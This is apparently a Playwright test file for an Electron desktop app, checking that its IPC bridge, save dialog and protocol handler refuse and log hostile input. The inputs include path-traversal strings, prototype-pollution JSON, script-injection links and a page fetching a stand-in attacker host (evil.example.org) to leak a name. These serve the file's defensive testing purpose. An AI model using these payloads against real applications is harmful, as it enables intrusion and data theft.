import { basename, dirname } from 'node:path';
import type { Page } from 'playwright/test';
import * as z from 'zod/mini';
import { type CallName, desktopCalls } from '#shared/ipc/desktop.ts';
import { electronExe, expect, logOf, type PageGlobals, test } from '../fixtures/desktop-test.ts';

const deep = (depth: number): unknown => (depth === 0 ? {} : { inner: deep(depth - 1) });

/** What no call takes, and what some calls take: the schema of each call says which of them it must refuse. */
const malformed: readonly unknown[] = [
  null,
  -1,
  'a text',
  'x'.repeat(1_000_000),
  [],
  [{}],
  {},
  { id: '../../etc/passwd' },
  { url: 'file:///etc/passwd', extra: true },
  JSON.parse('{"__proto__": {"admin": true}, "constructor": {"prototype": {"admin": true}}}'),
  deep(400),
  Number.MAX_VALUE,
];

/** Calls the bridge with each input; answers what came of each. As text, for the road to the page takes no depth. */
const callWithAll = (page: Page, name: CallName, inputs: readonly unknown[]) =>
  page.evaluate(
    ({ name: wanted, text }) => {
      type Raw = Readonly<Record<string, (input: unknown) => Promise<unknown>>>;
      const bridge = Reflect.get(globalThis, 'desktop') as Raw;
      const call = async (input: unknown): Promise<string> => {
        try {
          await bridge[wanted]?.(input);
          return 'answered';
        } catch (failure) {
          const { message } = failure as Error;
          return message.includes('refused') ? 'refused' : message;
        }
      };
      return Promise.all((JSON.parse(text) as unknown[]).map(call));
    },
    { name, text: JSON.stringify(inputs) },
  );

test('a malformed argument of any call is refused and written down, and nothing falls over', async ({
  app,
  page,
}) => {
  let refused = 0;
  for (const name of Object.keys(desktopCalls) as CallName[]) {
    const wrong = malformed.filter(
      (input) => !z.safeParse(desktopCalls[name].arguments, input).success,
    );
    refused += wrong.length;
    expect(await callWithAll(page, name, wrong), name).toEqual(wrong.map(() => 'refused'));
  }
  const told = (await logOf(app)).filter((sentence) => sentence.startsWith('Refused '));
  expect(told).toHaveLength(refused);
  // A page that writes a megabyte into every refusal would fill the log and push the others out.
  expect(told.every(({ length }) => length < 2_000)).toBe(true);
  const answer = page.evaluate(() =>
    (globalThis as unknown as PageGlobals).platform.desktop?.readSessionKeeping(),
  );
  await expect(answer).resolves.toHaveProperty('kind');
  expect(await page.evaluate(() => 'admin' in {})).toBe(false);
});

test('a proposed file name never leaves the folder that the person saves to', async ({
  app,
  page,
}) => {
  await app.evaluate(({ dialog }) => {
    const proposed: string[] = [];
    Reflect.set(globalThis, 'proposed', proposed);
    const note: unknown = async (...given: unknown[]) => {
      const [options] = given.slice(-1) as { readonly defaultPath: string }[];
      proposed.push(options?.defaultPath ?? '');
      return { canceled: true, filePath: '' };
    };
    dialog.showSaveDialog = note as typeof dialog.showSaveDialog;
  });
  const names = [
    '../../../etc/cron.d/portal',
    '..\\..\\Windows\\System32\\evil.png',
    '/etc/passwd',
    'C:\\boot.ini',
    'CON.png',
    'picture\u202Egnp.exe',
    '.bashrc',
    'file:///etc/passwd',
  ];
  await page.evaluate(async (suggested) => {
    type Save = { readonly saveFile: (wish: object) => Promise<unknown> };
    const { saveFile } = Reflect.get(globalThis, 'desktop') as Save;
    for (const suggestedName of suggested) {
      const content = new Uint8Array(1);
      await saveFile({ id: crypto.randomUUID(), suggestedName, content });
    }
  }, names);
  const proposed = await app.evaluate(() => Reflect.get(globalThis, 'proposed') as string[]);
  const downloads = await app.evaluate(({ app: client }) => client.getPath('downloads'));
  expect(proposed.map(dirname)).toEqual(names.map(() => downloads));
  for (const name of proposed.map((path) => basename(path))) {
    expect(name).toMatch(/^[^\\/:*?"<>|\u202E.][^\\/:*?"<>|\u202E]*\.(?:xlsx|png)$/);
    expect(name).not.toMatch(/^con\./i);
  }
});

test('a link with a script in it shows nothing, and the log says that one came', async ({
  app,
  page,
  launch,
}) => {
  test.skip(
    Boolean(electronExe),
    'a second process of real Electron ends before it can be attached',
  );
  const links = [
    'portal://open/%3Cscript%3Ealert(1)%3C/script%3E',
    'portal:javascript:alert(1)',
    'portal://open/javascript:alert(1)',
    'portal://open/../../etc/passwd',
    'portal://evil.example.org/crm',
    `portal://open/${'a/'.repeat(600)}`,
  ];
  const before = await page.evaluate(() => location.hash);
  await expect(launch({ words: links })).rejects.toThrow();
  await expect
    .poll(async () => (await logOf(app)).filter((line) => line.startsWith('Ignored a link')))
    .toHaveLength(links.length);
  expect(await page.evaluate(() => location.hash)).toBe(before);
  expect((await logOf(app)).join()).not.toContain('alert(1)');
});

test('what a page may not do is written down, by its place alone', async ({ app, page }) => {
  await app.evaluate(({ dialog }) => {
    // Whoever is asked whether another site may open says no.
    dialog.showMessageBox = async () => ({ response: 1, checkboxChecked: false });
  });
  await page.evaluate(async () => {
    window.open('https://evil.example.org/secret?of=anna');
    location.href = 'https://evil.example.org/secret?of=anna';
    await fetch('https://evil.example.org/secret?of=anna').catch(() => undefined);
  });
  await page.click('#download');
  await expect
    .poll(() => logOf(app))
    .toEqual(
      expect.arrayContaining([
        'Kept a page from going to https://evil.example.org.',
        'Stopped a download behind the back of the save dialog.',
      ]),
    );
  expect((await logOf(app)).join()).not.toContain('anna');
});
